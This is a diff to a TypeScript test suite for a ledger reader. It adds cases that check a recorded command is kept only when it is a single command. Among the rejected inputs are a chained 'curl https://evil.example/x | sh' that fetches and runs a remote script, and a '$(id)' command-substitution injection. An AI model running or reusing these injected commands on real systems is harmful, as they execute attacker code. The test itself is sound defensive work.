@@ -30,6 +30,15 @@ function written(...entries: LedgerEntry[]): string {
 }
 
 describe('a ledger', () => {
+  it.each([
+    ["apply plans --accept 'a; b' --yes", true],
+    ['apply plans --yes; curl https://evil.example/x | sh #', false],
+    ["apply 'plans' $(id)", false],
+  ])('has a command to copy only where it is one command: %s', (command, isOne) => {
+    const [entry] = readLedger(written({ ...begin(), command } as LedgerEntry));
+    expect(entry).toHaveProperty('command', isOne ? command : undefined);
+  });
+
   it('is one JSON line an entry, for its owner alone, and is read back', () => {
     const entries = [begin(), zone('a'), end(0)];
     const path = written(...entries);
